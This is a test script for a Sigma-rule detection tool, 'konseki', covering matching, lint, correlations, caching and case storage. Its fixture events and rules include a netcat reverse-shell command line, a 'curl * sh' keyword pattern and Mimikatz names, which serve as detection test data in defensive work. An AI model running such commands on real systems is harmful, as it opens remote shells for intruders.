#!/usr/bin/env python3
"""konseki detect and rules: what they read, refuse, find and print."""
import json, os, shutil, subprocess, sys, tempfile

KONSEKI, TOP = os.environ['KONSEKI'], os.getcwd()
number = failed = 0


def ok(good, name, note=''):
    global number, failed
    number += 1
    failed += not good
    print(f'{"ok" if good else "not ok"} {number} - {name}')
    if not good and note:
        print('# ' + str(note).replace('\n', '\n# '))


folder = tempfile.mkdtemp()
os.environ['XDG_CACHE_HOME'] = folder + '/cache'
os.environ.pop('KONSEKI_CASE', None)


def write(name, text):
    path = os.path.join(folder, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'w') as f:
        f.write(text)
    return path


def event(seconds, host='h', kind='process_start', message='m', parser='test', **fields):
    return json.dumps({'ts': f'2026-01-01T00:{seconds // 60:02d}:{seconds % 60:02d}Z', 'ts_desc': 'Recorded Time', 'kind': kind, 'message': message,
                       'host': host, 'user': None, 'parser': parser, 'source': 'x', 'fields': fields}, separators=(',', ':')) + '\n'


def run(*args):
    return subprocess.run([KONSEKI] + list(args), capture_output=True, text=True)


def hits(rules, events, *more):
    """(title, seconds) of every hit."""
    r, e = write('r.yml', rules), write('e.jsonl', events)
    done = run('detect', '--format', 'jsonl', '--rules', r, *more, e)
    return [json.loads(x) for x in done.stdout.splitlines()], done


def titles(rules, events, *more):
    return [h['rule_title'] for h in hits(rules, events, *more)[0]]


HEAD = 'logsource: {product: linux, category: process_creation}\nlevel: high\n'


def rule(title, detection, head=HEAD):
    return f'title: {title}\n{head}detection:\n' + '\n'.join('    ' + x for x in detection.strip().split('\n')) + '\n'


# ---- hits ----
found, done = hits(rule('one', 's: {Image|endswith: /nc, CommandLine|contains: " -e "}\ncondition: s'),
                   event(1, Image='/bin/nc', CommandLine='nc -e /bin/sh 192.0.2.1') + event(2, Image='/bin/nc', CommandLine='nc -l'))
ok(done.returncode == 0 and len(found) == 1, 'a rule hits the one event it should', done.stderr)
h = found[0] if found else {}
ok(set(h) == {'rule_id', 'rule_title', 'level', 'tags', 'rule_path', 'ts', 'host', 'source', 'record', 'id', 'matched'}, 'a hit has the members of the contract', h)
ok(h.get('matched') == [{'selection': 's', 'field': 'Image', 'value': '/bin/nc'}, {'selection': 's', 'field': 'CommandLine', 'value': 'nc -e /bin/sh 192.0.2.1'}],
   'it says which selection, field and value matched', h.get('matched'))

# ---- the specification's corners; oracle: the text of the specification ----
E = lambda **f: event(1, **f)
for name, detection, event_fields, want in [
    ('a backslash before no wildcard is itself', r"s: {CommandLine: 'a\b'}" + '\ncondition: s', dict(CommandLine='a\\b'), 1),
    ('two backslashes are one', r"s: {CommandLine: 'a\\b'}" + '\ncondition: s', dict(CommandLine='a\\b'), 1),
    ('an escaped star is a star', r"s: {CommandLine: 'a\*'}" + '\ncondition: s', dict(CommandLine='abc'), 0),
    ('an escaped star matches a star', r"s: {CommandLine: 'a\*'}" + '\ncondition: s', dict(CommandLine='a*'), 1),
    ('a backslash and a wildcard', r"s: {CommandLine: 'a\\*'}" + '\ncondition: s', dict(CommandLine='a\\xyz'), 1),
    ('? is one character, also beyond ASCII', "s: {CommandLine: 'a?c'}\ncondition: s", dict(CommandLine='aéc'), 1),
    ('case does not count', "s: {CommandLine: 'ÄBC'}\ncondition: s", dict(CommandLine='äbc'), 1),
    ('cased counts it', "s: {CommandLine|cased: 'Abc'}\ncondition: s", dict(CommandLine='abc'), 0),
    ('null is a field that is not there', 's: {CommandLine: null}\ncondition: s', dict(Image='x'), 1),
    ('null is no empty text', 's: {CommandLine: null}\ncondition: s', dict(CommandLine=''), 0),
    ("'' is an empty text", "s: {CommandLine: ''}\ncondition: s", dict(CommandLine=''), 1),
    ("'' is no missing field", "s: {CommandLine: ''}\ncondition: s", dict(Image='x'), 0),
    ('a number is equal to its text', 's: {Num: 7}\ncondition: s', dict(Num='7'), 1),
    ('a number is equal in hexadecimal', 's: {Num: 255}\ncondition: s', dict(Num='0xff'), 1),
    ('a text is not', "s: {Num: '255'}\ncondition: s", dict(Num='0xff'), 0),
    ('windash has five dashes', "s: {CommandLine|windash|contains: ' -enc '}\ncondition: s", dict(CommandLine='p –enc x'), 1),
    ('windash leaves dashes inside words', "s: {CommandLine|windash|contains: 'a-b'}\ncondition: s", dict(CommandLine='a/b'), 0),
    ('cidr of IPv6', "s: {Ip|cidr: '2001:db8::/32'}\ncondition: s", dict(Ip='2001:DB8:0:1::7'), 1),
    ('cidr does not compare texts', "s: {Ip|cidr: '10.0.0.0/8'}\ncondition: s", dict(Ip='10.1.2.3.evil.example'), 0),
    ('base64offset', "s: {CommandLine|base64offset|contains: 'whoami'}\ncondition: s", dict(CommandLine='eHh3aG9hbWk='), 1),
    ('wide base64', "s: {CommandLine|wide|base64|contains: 'ping'}\ncondition: s", dict(CommandLine='x cABpAG4AZwA= y'), 1),
    ('all of them leaves out _names', 's: {Num: 1}\n_t: {Num: 2}\ncondition: all of them', dict(Num=1), 1),
    ('2 of', 'a: {Num: 1}\nb: {Num: 1}\nc: {Num: 2}\ncondition: 2 of them', dict(Num=1), 1),
    ('not binds tighter than and, and than or', 'a: {Num: 1}\nb: {Num: 2}\ncondition: a or b and not a', dict(Num=1), 1),
    ('a list of conditions is any of them', 'a: {Num: 1}\nb: {Num: 2}\ncondition: [a, b]', dict(Num=2), 1),
    ('keywords are anywhere', "k: ['curl * sh']\ncondition: k", dict(Any='x CURL http | sh y'), 1),
    ('fieldref', 's: {Image|fieldref: ParentImage}\ncondition: s', dict(Image='/A', ParentImage='/a'), 1),
    ('a time part', 's: {When|hour: 23}\ncondition: s', dict(When='2026-12-31 23:59:00'), 1),
    ('the ISO week', 's: {When|week: 53}\ncondition: s', dict(When='2027-01-01 00:00:00'), 1),
]:
    got = titles(rule('x', detection), E(**event_fields))
    ok(len(got) == want, name, got)

# ---- refusals: file, line, reason; the rest is loaded ----
REFUSED = [
    ('unknown modifier', rule('x', "s: {A|nosuch: 1}\ncondition: s"), "no modifier 'nosuch'"),
    ('missing selection', rule('x', 's: {A: 1}\ncondition: s and t'), "no selection 't'"),
    ('pipe', rule('x', 's: {A: 1}\ncondition: s | count() > 3'), 'not part of Sigma 2'),
    ('open parenthesis', rule('x', 's: {A: 1}\ncondition: (s'), 'parenthesis'),
    ('bad expression', rule('x', "s: {A|re: '('}\ncondition: s"), 'regular expression'),
    ('bad network', rule('x', "s: {A|cidr: '10.0.0.0/33'}\ncondition: s"), 'no network'),
    ('placeholder', rule('x', "s: {A|expand: '%admins%'}\ncondition: s"), '%admins% has no values'),
    ('no condition', rule('x', 's: {A: 1}'), 'no condition'),
    ('a key twice', 'title: x\ntitle: y\n' + HEAD, 'stands twice'),
    ('not YAML', 'title: [', 'not YAML'),
    ('an alias bomb', 'title: x\na: &a [x,x,x,x,x,x,x,x,x]\n' + ''.join(f'{chr(98 + i)}: &{chr(98 + i)} [{",".join(["*" + chr(97 + i)] * 9)}]\n' for i in range(8)), 'more nodes'),
    ('an alias in its anchor', 'title: x\ndetection: &a {s: [*a], condition: s}\n', 'inside its own anchor'),
    ('deep nesting', 'title: x\na: ' + '[' * 100 + ']' * 100, 'nested too deep'),
    ('deep parentheses', rule('x', 's: {A: 1}\ncondition: ' + '(' * 100 + 's' + ')' * 100), 'nested too deep'),
    ('a filter for nobody', 'title: f\n' + HEAD + 'filter: {f: {A: 1}, condition: f}\n', 'a filter without rules'),
    ('a window that cannot be', 'title: c\ncorrelation: {type: event_count, rules: [x], timespan: 1m, condition: {gte: 2000000}}\n', 'no more than'),
    ('an order with an end', 'title: c\ncorrelation: {type: temporal_ordered, rules: [x, y], timespan: 1m, condition: {lt: 2}}\n', 'in their order'),
    ('too many dashes', rule('x', "s: {A|windash: '-a -b -c -d -e -f -g'}\ncondition: s"), 'windash'),
]
for name, text, reason in REFUSED:
    path = write('bad.yml', text)
    done = run('rules', 'lint', path)
    ok(done.returncode == 1 and reason in done.stdout and done.stdout.startswith(path + ':'), 'refused: ' + name, done.stdout + done.stderr)
found, done = hits(rule('bad', 's: {A|nosuch: 1}\ncondition: s') + '---\n' + rule('good', 's: {A: 1}\ncondition: s'), E(A=1))
ok([h['rule_title'] for h in found] == ['good'] and done.returncode == 1 and 'nosuch' in done.stderr, 'the good rule beside a bad one works; exit status 1', done.stderr)

WARNED = [
    ('all of one', rule('x', 's: {A|contains|all: b}\ncondition: s'), 5, 'single value'),
    ('null among values', rule('x', 's: {A: [b, null]}\ncondition: s'), 5, 'null in a list'),
    ('a selection nobody uses', rule('x', 's: {A: 1}\nt: {A: 2}\ncondition: s'), 6, "does not use 't'"),
    ('never', rule('x', 's: {A: 1}\ncondition: s and not s'), 1, 'can never hold'),
    ('nearly always', rule('x', 's: {A: 1}\ncondition: not s'), 1, 'for which no selection does'),
    ('two things at once', rule('x', "s: {A: b, A|startswith: c}\ncondition: s"), 5, 'excludes each other'),
    ('two numbers at once', rule('x', "s: {A|gt: 5, A|lt: 5}\ncondition: s"), 5, 'excludes each other'),
    ('expand without a placeholder', rule('x', "s: {A|expand: b}\ncondition: s"), 5, 'no %placeholder%'),
    ('a timeframe alone', rule('x', 's: {A: 1}\ntimeframe: 5m\ncondition: s'), 6, 'timeframe'),
    ('a slip of the pen', 'titel: y\n' + rule('x', 's: {A: 1}\ncondition: s'), 1, "is 'title' meant"),
    ('a key that is not read', 'title: c\ncorrelation: {type: event_count, rules: [x], timespan: 1m, condition: {gte: 2}, grup-by: [A]}\n---\n' + rule('x', 's: {A: 1}\ncondition: s', HEAD + 'name: x\n'), 2, "'group-by' meant"),
    ('a logsource of nobody', rule('x', 's: {A: 1}\ncondition: s', 'logsource: {product: nowhere}\nlevel: low\n'), 1, 'cannot fire'),
    ('an id that is none', rule('x', 's: {A: 1}\ncondition: s', HEAD + 'id: abc\n'), 1, 'no UUID'),
    ('a name twice', rule('x', 's: {A: 1}\ncondition: s', HEAD + 'name: a\n') + '---\n' + rule('y', 's: {A: 1}\ncondition: s', HEAD + 'name: a\n'), 9, 'too'),
    ('a field that nothing has', rule('x', 's: {Image: a, CommandLne: b}\ncondition: s', 'logsource: {product: windows, category: process_creation}\nlevel: low\n'), 5, "no field 'CommandLne'"),
    ('another taxonomy', rule('x', 's: {A: 1}\ncondition: s', HEAD + 'taxonomy: ecs\n'), 1, 'taxonomy'),
]
for name, text, line, reason in WARNED:
    path = write('odd.yml', text)
    done = run('rules', 'lint', path)
    ok(done.returncode == 0 and len(done.stdout.splitlines()) == 1 and done.stdout.startswith(f'{path}:{line}: warning: ') and reason in done.stdout, 'lint warns: ' + name, done.stdout + done.stderr)
done = run('rules', 'lint', write('odd.yml', rule('x', "s: {A: [b, c], A|startswith: c, B|gte: 1, B|lte: 1, C: null, D: 'x*', D|endswith: y}\nf: {A: 1}\ncondition: s and not f")))
ok(done.returncode == 0 and not done.stdout, 'and is silent on what can match', done.stdout)

# ---- collections, filters, placeholders, levels ----
ok(titles('action: global\n' + HEAD + '---\ntitle: a\ndetection: {s: {A: 1}, condition: s}\n---\ntitle: b\ndetection: {s: {A: 2}, condition: s}\n', E(A=2)) == ['b'],
   'action: global')
ok(titles(rule('a', 's: {A: 1}\ncondition: s') + '---\naction: repeat\ntitle: b\ndetection: {s: {A: 3}}\n', E(A=3)) == ['b'], 'action: repeat')
FILTER = '---\ntitle: known\nlogsource: {product: linux, category: process_creation}\nfilter:\n    rules: [here]\n    f: {User: root}\n    condition: not f\n'
ok(titles(rule('a', 's: {A: 1}\ncondition: s', HEAD + 'name: here\n') + FILTER, E(A=1, User='root') + E(A=1, User='bob')) == ['a'], 'a filter takes its events away')
values = write('values.yml', 'admins: [alice, bob*]\n')
ok(len(titles(rule('a', "s: {User|expand: '%admins%'}\ncondition: s"), E(User='bobby') + E(User='eve'), '--placeholders', values)) == 1, 'placeholders from a file')
LOW = rule('low', 's: {A: 1}\ncondition: s').replace('high', 'low')
ok(titles(LOW, E(A=1), '--level', 'medium') == [], '--level leaves lower rules out')
ok(hits(LOW, E(A=1), '--fail-on', 'high')[1].returncode == 0 and hits(LOW, E(A=1), '--fail-on', 'low')[1].returncode == 1, '--fail-on')
mapping = write('map.yml', "sources:\n- {name: mine, product: acme, kind: web_request, fields: {Path: {from: uri, replace: {'/x#/': '/'}}}}\n")
ok(len(titles('title: m\nlogsource: {product: acme}\ndetection: {s: {Path: /login}, condition: s}\n', event(1, kind='web_request', uri='/x12/login'), '--mapping', mapping)) == 1,
   '--mapping adds a source and its fields')

# ---- logsources ----
def windows(event_id, channel='Security', provider='Microsoft-Windows-Security-Auditing', **fields):
    return event(1, kind='other', Provider_Name=provider, EventID=event_id, Channel=channel, **fields)
SYSMON = dict(channel='Microsoft-Windows-Sysmon/Operational', provider='Microsoft-Windows-Sysmon')
for name, source, detection, line, want in [
    ('4688 is a process creation', 'category: process_creation', r"s: {Image|endswith: '\nc.exe', IntegrityLevel: High}", windows(4688, NewProcessName='C:\\nc.exe', MandatoryLabel='S-1-16-12288'), 1),
    ('event 1 of another channel is none', 'category: process_creation', r"s: {Image|endswith: '\nc.exe'}", windows(1, channel='System', provider='x', Image='C:\\nc.exe'), 0),
    ('a created key is no deleted one', 'category: registry_delete', r"s: {TargetObject|contains: 'Run'}", windows(12, TargetObject='Run', EventType='CreateKey', **SYSMON), 0),
    ('a deleted value is', 'category: registry_delete', r"s: {TargetObject|contains: 'Run'}", windows(12, TargetObject='Run', EventType='DeleteValue', **SYSMON), 1),
    ('4657 is a set value', 'category: registry_set', r"s: {TargetObject: 'HKLM\SOFTWARE\Run\x'}", windows(4657, ObjectName='\\REGISTRY\\MACHINE\\SOFTWARE\\Run', ObjectValueName='x', OperationType='%%1904'), 1),
    ('5156 is a connection', 'category: network_connection', r"s: {Initiated: 'true', DestinationPort: 3389, Image: 'C:\a.exe'}", windows(5156, Direction='%%14593', DestPort='3389', Application='\\device\\harddiskvolume2\\a.exe'), 1),
    ('sudo by the names of its own log', 'service: sudo, product: linux', "s: {USER: '#-*'}", event(1, kind='privilege_use', Program='sudo', Message='m', TargetUserName='#-1'), 1),
    ('parts that are not there leave no trace', 'category: registry_set', r"s: {TargetObject: x}", windows(4657, ObjectName='-', ObjectValueName='x', OperationType='%%1904'), 1),
    ('Sysmon for Linux is what Sysmon is', 'category: process_creation, product: linux', "s: {Image|endswith: /sh, md5: 0CC175B9C0F1B6A831C399E269772661}",
     event(1, Provider_Name='Linux-Sysmon', EventID=1, Channel='Linux-Sysmon/Operational', Image='/bin/sh', Hashes='MD5=0cc175b9c0f1b6a831c399e269772661'), 1),
    ('paths are looked for in cs-uri-query, too', 'category: webserver', "s: {cs-uri-query|contains|all: [/tmui/, 'a=b'], cs-uri-query|startswith: 'a='}", event(1, kind='web_request', **{'cs-uri': '/tmui/x?a=b', 'cs-uri-stem': '/tmui/x', 'cs-uri-query': 'a=b'}), 1),
    ('and a request without a query has none', 'category: webserver', "s: {cs-uri-query: null, cs-uri-query|contains: /tmui/}", event(1, kind='web_request', **{'cs-uri': '/tmui/x', 'cs-uri-stem': '/tmui/x'}), 1),
    ('hashes are split', 'category: process_creation', 's: {md5: 0CC175B9C0F1B6A831C399E269772661}', windows(1, Hashes='SHA1=00,MD5=0cc175b9c0f1b6a831c399e269772661', **SYSMON), 1),
    ('names without their blanks', 'service: windefend', 's: {ThreatName|contains: Mimikatz}', windows(1116, channel='Microsoft-Windows-Windows Defender/Operational', provider='d', **{'Threat Name': 'HackTool:Mimikatz'}), 1),
]:
    source = source if 'product' in source or 'webserver' in source else 'product: windows, ' + source
    got = titles(f'title: x\nlogsource: {{{source}}}\ndetection:\n    {detection}\n    condition: s\n', line)
    ok(len(got) == want, name, got)

# ---- correlations ----
BASE = rule('base', 's: {A: 1}\ncondition: s', HEAD + 'name: base\n') + '---\n' + rule('other', 's: {A: 2}\ncondition: s', HEAD + 'name: other\n')
def correlated(body, events, **kw):
    text = BASE + '---\ntitle: corr\nname: corr\nlevel: high\ncorrelation:\n' + ''.join(f'    {x}\n' for x in body.strip().split('\n')) + kw.get('more', '')
    return [h for h in hits(text, events)[0] if h['rule_title'] in kw.get('want', ('corr',))]
many = ''.join(event(10 * i, A=1, User='u', N=i) for i in range(6))
got = correlated('type: event_count\nrules: [base]\ngroup-by: [User]\ntimespan: 1m\ncondition: {gte: 4}', many)
ok(len(got) == 1 and got[0]['count'] == 4 and len(got[0]['events']) == 4 and got[0]['group'] == {'User': 'u'}, 'event_count: one hit for one burst, with its events', got)
ok(correlated('type: event_count\nrules: [base]\ntimespan: 20s\ncondition: {gte: 4}', many) == [], 'event_count: the window ends')
ok(len(correlated('type: event_count\nrules: [base]\ntimespan: 1m\ncondition: {gt: 1, lt: 4}', many)) == 0, 'a range is judged when the window is over')
ok(len(correlated('type: event_count\nrules: [base]\ntimespan: 1m\ncondition: {gte: 1, lte: 9}', many)) == 1, 'and holds then')
ok(len(correlated('type: event_count\nrules: [base]\ngroup-by: [User]\ntimespan: 1m\ncondition: {gte: 2}', event(1, A=1, User='a') + event(2, A=1, User='b'))) == 0, 'groups are apart')
ok(len(correlated('type: value_count\nrules: [base]\ntimespan: 1m\ncondition: {field: User, gte: 2}', event(1, A=1, User='a') + event(2, A=1, User='a') + event(3, A=1, User='b'))) == 1, 'value_count counts different values')
ok(len(correlated('type: temporal\nrules: [base, other]\ntimespan: 1m', event(5, A=2) + event(1, A=1))) == 1, 'temporal: any order')
ok(len(correlated('type: temporal_ordered\nrules: [base, other]\ntimespan: 1m', event(5, A=1) + event(1, A=2))) == 0, 'temporal_ordered: not in the other order')
got = correlated('type: temporal_ordered\nrules: [base, other]\ntimespan: 1m', event(5, A=2) + event(1, A=1))
ok(len(got) == 1 and [e['ts'] for e in got[0]['events']] == ['2026-01-01T00:00:01Z', '2026-01-01T00:00:05Z'], 'temporal_ordered: by time, not by place in the file', got)
for kind, extra, bound, want in [('value_sum', '', 15, 15), ('value_avg', '', 2.5, 2.5), ('value_median', '', 2.5, 2.5), ('value_percentile', 'percentile: 80, ', 4, 4)]:
    got = correlated(f'type: {kind}\nrules: [base]\ntimespan: 1m\ncondition: {{field: N, {extra}gte: {bound}}}', many)
    ok(len(got) == 1 and abs(got[0]['value'] - want) < 1e-9, kind, got)
got = correlated('type: temporal\nrules: [base, other]\ngroup-by: [who]\naliases: {who: {base: User, other: Owner}}\ntimespan: 1m', event(1, A=1, User='a') + event(2, A=2, Owner='b') + event(3, A=2, Owner='a'))
ok(len(got) == 1 and got[0]['group'] == {'who': 'a'}, 'aliases', got)
OUTER = '---\ntitle: outer\nlevel: critical\ncorrelation: {type: event_count, rules: [corr], group-by: [User], timespan: 1h, condition: {gte: 2}}\n'
got = correlated('type: event_count\nrules: [base]\ngroup-by: [User]\ntimespan: 30s\ncondition: {gte: 2}', event(1, A=1, User='u') + event(2, A=1, User='u') + event(301, A=1, User='u') + event(302, A=1, User='u'), more=OUTER, want=('corr', 'outer'))
ok([h['rule_title'] for h in got] == ['outer'], 'a correlation of a correlation; the inner one is silent', got)
got = correlated('type: event_count\nrules: [base]\ntimespan: 1m\ngenerate: true\ncondition: {gte: 4}', many, want=('corr', 'base'))
ok(len(got) == 7, 'generate: the rules it refers to report too', len(got))
got = correlated('type: event_count\nrules: [base]\ntimespan: 1m\ncondition: {gt: 2, lte: 4}', event(1, A=1) + ''.join(event(57 + i, A=1) for i in range(3)) + event(62, A=1))
ok(len(got) == 1 and got[0]['count'] == 4, 'a range slides: its window does not begin with the first event', got)
got = correlated('type: event_count\nrules: [base]\ntimespan: 30s\ncondition: {gte: 2}', ''.join(event(10 * i, A=1) for i in range(30)))
inside = [e['ts'] for h in got for e in h['events']]
ok(len(inside) == len(set(inside)) == 30 and len(got) == 8, 'a steady stream: every event in one hit', got)
ok(len(correlated('type: temporal\nrules: [base, other]\ntimespan: 1m\ncondition: base and not other', event(1, A=1) + event(9, A=2))) == 0, 'temporal: "not" waits until the window is over')
ok(len(correlated('type: temporal\nrules: [base, other]\ntimespan: 1m\ncondition: base and not other', event(1, A=1) + event(99, A=2))) == 1, 'and holds then')
ok(len(correlated('type: temporal_ordered\nrules: [other, base]\ntimespan: 1m\ncondition: {gte: 1}', event(1, A=1))) == 1, 'temporal_ordered counts the rules that its condition asks for')
THREE = BASE + '---\n' + rule('third', 's: {A: 3}\ncondition: s', HEAD + 'name: third\n') + '---\ntitle: corr\nlevel: high\ncorrelation: {type: temporal_ordered, rules: [base, other, third], timespan: 1m}\n'
def several(rules, *files):
    done = run('detect', '--format', 'jsonl', '--rules', write('several.yml', rules), *[write(f'several{i}.jsonl', x) for i, x in enumerate(files)])
    return [h['rule_title'] for h in map(json.loads, done.stdout.splitlines())]
ok(several(THREE, event(5, A=3) + event(5, A=9), event(5, A=2), event(5, A=1)).count('corr') == 1, 'temporal_ordered: at one time the order of two files is unknown')
ok(several(THREE, event(5, A=3) + event(5, A=2) + event(5, A=1)).count('corr') == 0, 'that within a file is known')
OUTEST = OUTER.replace('title: outer', 'title: outer\nname: outer') + '---\ntitle: outest\nlevel: critical\ncorrelation: {type: temporal, rules: [outer, other], timespan: 1h}\n'
got = correlated('type: event_count\nrules: [base]\ngroup-by: [User]\ntimespan: 30s\ncondition: {gte: 2}', event(1, A=1, User='u') + event(2, A=1, User='u') + event(301, A=1, User='u') + event(302, A=1, User='u') + event(310, A=2), more=OUTEST, want=('corr', 'outer', 'outest'))
ok([h['rule_title'] for h in got] == ['outest'], 'three levels', got)
k = write('known.yml', '- {rule: corr, field: User, value: "U*", who: me, why: a test}\n')
found, done = hits(BASE + '---\ntitle: corr\nlevel: high\ncorrelation: {type: event_count, rules: [base], group-by: [User], timespan: 1m, condition: {gte: 2}}\n',
                   event(1, A=1, User='u1') + event(2, A=1, User='u1') + event(3, A=1, User='v') + event(4, A=1, User='v'), '--suppress', k)
ok([h['group'] for h in found] == [{'User': 'v'}] and '1 hits are suppressed' in done.stderr, 'known good of a correlation, by its group', done.stderr)
low = BASE.replace('high', 'low') + '---\ntitle: corr\nlevel: high\ncorrelation: {type: event_count, rules: [base], timespan: 1m, condition: {gte: 1}}\n'
ok(titles(low, event(1, A=1), '--level', 'high') == ['corr'], '--level leaves the rules that a correlation needs')
r = write('c.yml', BASE + '---\ntitle: corr\nlevel: high\ncorrelation: {type: event_count, rules: [base], timespan: 1m, condition: {gte: 2}}\n')
done = run('detect', '--format', 'jsonl', '--rules', r, write('e1.jsonl', event(1, host='a', A=1)), write('e2.jsonl', event(2, host='b', A=1)))
got = [json.loads(x) for x in done.stdout.splitlines()]
ok(len(got) == 1 and got[0]['host'] is None, 'a window spans files and hosts', done.stdout)
done = run('rules', 'lint', write('cycle.yml', 'title: a\nname: a\ncorrelation: {type: event_count, rules: [b], timespan: 1m, condition: {gte: 1}}\n---\ntitle: b\nname: b\ncorrelation: {type: event_count, rules: [a], timespan: 1m, condition: {gte: 1}}\n'))
ok(done.returncode == 1 and 'refers to' in done.stdout, 'a circle of correlations is refused', done.stdout)

# ---- the cache: a tampered or foreign file is as if it were not there ----
cache = folder + '/cache/konseki'
shutil.rmtree(cache, ignore_errors=True)
SEEN = rule('cached', "s: {CommandLine|contains: [needle, other]}\ncondition: s")
ok(titles(SEEN, E(CommandLine='a needle')) == ['cached'], 'compiled')
files = os.listdir(cache) if os.path.isdir(cache) else []
ok(len(files) == 1 and os.stat(f'{cache}/{files[0]}').st_mode & 0o777 == 0o600, 'kept for this user alone', files)
if files:
    path = f'{cache}/{files[0]}'
    whole = open(path, 'rb').read()
    for name, content in [('a flipped bit', whole[:-9] + bytes([whole[-9] ^ 1]) + whole[-8:]), ('a cut file', whole[:len(whole) // 2]), ('an empty file', b'')]:
        open(path, 'wb').write(content)
        ok(titles(SEEN, E(CommandLine='a needle')) == ['cached'], 'cache with ' + name)
        ok(open(path, 'rb').read() == whole, 'is made anew')

# Many rules: their trees are kept, too, and a rule that changes is read again.
shutil.rmtree(cache, ignore_errors=True)
many = folder + '/many'
os.mkdir(many)
for n in range(70):
    open(f'{many}/{n}.yml', 'w').write(rule(f'many {n}', f's: {{A: {n}}}\ncondition: s'))
e = write('many.jsonl', E(A=3) + E(A=69) + E(A=70))
hits = lambda: sorted(json.loads(x)['rule_title'] for x in run('detect', '--format', 'jsonl', '--rules', many, e).stdout.splitlines())
ok(hits() == ['many 3', 'many 69'] and len(os.listdir(cache)) == 2, 'many rules', os.listdir(cache))
ok(hits() == ['many 3', 'many 69'], 'and from what was kept')
open(f'{many}/3.yml', 'w').write(rule('changed', 's: {A: 70}\ncondition: s'))
ok(hits() == ['changed', 'many 69'] and hits() == ['changed', 'many 69'], 'a changed rule is read again', hits())
os.unlink(f'{many}/69.yml')
ok(hits() == ['changed'] and hits() == ['changed'], 'a rule that is gone stays away', hits())
for n in range(40):
    open(f'{many}/1.yml', 'w').write(rule('many 1', f's: {{A|contains: x{n}}}\ncondition: s'))
    hits()
ok(0 < len(os.listdir(cache)) <= 32, 'the cache does not grow for ever', len(os.listdir(cache)))

# ---- rules of our own, each with events it hits and events it must not ----
bad = []
for system in ('linux', 'windows'):
    for name in sorted(os.listdir(f'{TOP}/tests/rules/{system}')):
        if not name.endswith('.jsonl'):
            continue
        source = f'{TOP}/rules/{system}/{name[:-6]}.yml'
        want = sum('"message": "hit"' in x or '"message":"hit"' in x for x in open(f'{TOP}/tests/rules/{system}/{name}'))
        done = run('detect', '--format', 'jsonl', '--rules', source, f'{TOP}/tests/rules/{system}/{name}')
        if len(done.stdout.splitlines()) != want:
            bad.append(f'{system}/{name}: {len(done.stdout.splitlines())} hits, {want} expected {done.stderr}')
ok(not bad, 'our own rules hit what they should', '\n'.join(bad))

# ---- what people see ----
r, e = write('r.yml', rule('one', 's: {A: 1}\ncondition: s')), write('e.jsonl', E(A=1) + E(A=1))
done = run('detect', '--rules', r, '--format', 'tsv', e)
ok(done.stdout.splitlines()[1].split('\t')[:3] == ['high', '2', '1'], 'a table by rule', done.stdout)
done = run('detect', '--rules', r, '--format', 'csv', '--hits', '--no-header', e)
ok(len(done.stdout.splitlines()) == 2, '--hits: a row for every hit', done.stdout)
done = run('rules', 'explain', '--rules', r, 'one', '--record', '7', e)
ok(done.returncode == 2 and 'no record 7' in done.stderr, 'explain: a record that is not there', done.stdout + done.stderr)
done = run('rules', 'explain', '--rules', r, 'one', '--record', '0', e)
ok('+ from its logsource' in done.stdout and '[1]' in done.stdout, 'explain', done.stdout + done.stderr)
done = run('rules', 'list', '--format', 'jsonl', '--rules', write('u.yml', 'title: u\nlogsource: {product: nowhere}\nlevel: low\ndetection: {s: {A: 1}, condition: s}\n'))
ok(json.loads(done.stdout)['state'] == 'cannot fire', 'list says what cannot fire', done.stdout)
done = run('detect', '--rules', folder + '/absent', e)
ok(done.returncode == 2, 'rules that are not there: exit status 2', done.stderr)

# ---- on a case ----
c = folder + '/case.db'
r, e = write('r.yml', rule('one', "s: {CommandLine|contains: evil, User|endswith: '\\\\bob'}\ncondition: s", HEAD + 'id: 11111111-0000-4000-8000-000000000000\n')), \
    write('e.jsonl', event(1, Image='/bin/x', CommandLine='evil', User='A\\bob') + event(2, Image='/bin/x', CommandLine='good', User='A\\bob'))
done = run('ingest', '-c', c, e)
done = run('detect', '-c', c, '--rules', r, '--format', 'jsonl')
found = [json.loads(x) for x in done.stdout.splitlines()]
ok(len(found) == 1 and found[0]['id'], 'a case is detected on', done.stdout + done.stderr)
import sqlite3
db = sqlite3.connect(c)
ok(db.execute('SELECT rule, event FROM detections').fetchall() == [('one', found[0]['id'] if found else 0)], 'the detection is in the case')
done = run('detect', '-c', c, '--rules', r, '--format', 'jsonl')
ok(db.execute('SELECT count(*) FROM detection').fetchall() == [(1,)], 'twice is once')
done = run('rules', 'sql', '--rules', r, 'one')
ok([x[0] for x in db.execute(done.stdout.rstrip().rstrip(';'))] == [x['id'] for x in found], 'its SQL finds the same event', done.stdout + done.stderr)
done = run('rules', 'explain', '-c', c, '--rules', r, 'one', '--event', str(found[0]['id'] if found else 1))
ok('+ from its logsource' in done.stdout, 'explain an event of the case', done.stdout + done.stderr)
done = run('rules', 'list', '-c', c, '--rules', r, '--format', 'jsonl')
ok(json.loads(done.stdout)['hits'] == 1 and json.loads(done.stdout)['state'] == 'loaded', 'list -c counts its hits', done.stdout)
done = run('rules', 'list', '-c', c, '--format', 'jsonl', '--rules', write('w.yml', 'title: w\nlogsource: {product: windows, service: system}\nlevel: low\ndetection: {s: {A: 1}, condition: s}\n'))
ok(json.loads(done.stdout)['reason'] == 'the case has no events of its logsource', 'and says what cannot fire here', done.stdout)
k = write('known.yml', '- rule: one\n  field: User\n  value: "*bob"\n  who: me\n  why: our test account\n')
done = run('detect', '-c', c, '--rules', r, '--format', 'tsv', '--suppress', k)
ok(done.stdout.splitlines()[1].split('\t')[1] == '0' and done.stdout.splitlines()[1].split('\t')[-1] == '1' and '1 hits are suppressed' in done.stderr, 'known good is counted, not hidden', done.stdout + done.stderr)
done = run('detect', '-c', c, '--rules', r, '--suppress', write('k.yml', '- rule: one\n  who: me\n'))
ok(done.returncode == 2 and 'why' in done.stderr, 'known good without a reason is refused', done.stderr)

# ---- a script in parts: the whole hits where no part does, and nothing hits twice ----
PS = 'logsource: {product: windows, category: ps_script}\nlevel: high\n'
scripts = os.path.join(os.environ.get('BUILD', 'build'), 'fixtures/evtx/scripts.evtx')
r = write('ps.yml', '---\n'.join(rule(t, f's: {{ScriptBlockText|contains: "{w}"}}\ncondition: s', PS)
                                 for t, w in [('over the cut', 'Invoke-Mimi'), ('in a part', 'Write-Host'), ('in several parts', 'e'), ('over a gap', 'two;five'), ('all', '# three')]))
for more in ([], ['--plain']):
    done = run('detect', '--format', 'jsonl', '--rules', r, *more, scripts)
    found = sorted((h['rule_title'], h['record']) for h in map(json.loads, done.stdout.splitlines()))
